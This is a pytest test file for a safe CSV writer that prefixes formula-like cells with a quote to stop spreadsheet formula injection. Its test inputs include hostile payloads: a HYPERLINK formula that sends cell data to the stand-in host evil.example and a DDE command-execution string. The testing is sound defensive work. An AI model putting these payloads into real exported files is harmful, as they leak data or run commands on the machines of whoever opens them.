import csv
import io

import pytest

from caracom_register.spreadsheet import SafeCsvWriter, csv_cell, csv_text


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-Formula",
        "\tTabbed",
        "\rReturn",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Maija", "Meikäläinen", "045 639 3329", "a=b", "x-y", "maija@example.fi", ""])
def test_an_ordinary_cell_is_written_unchanged(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_numbers_are_their_text():
    assert csv_cell(None) == ""
    assert csv_cell(42) == "42"


def test_the_writer_neutralises_every_cell_of_a_row_and_keeps_the_rest():
    out = io.StringIO()
    SafeCsvWriter(out, delimiter=";").writerow(["=1+1", "Oy Ab", "-5"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == ["'=1+1", "Oy Ab", "'-5"]


def test_a_whole_document_has_its_header_first():
    text = csv_text(["name"], [["@x"], ["y"]])
    assert list(csv.reader(io.StringIO(text))) == [["name"], ["'@x"], ["y"]]
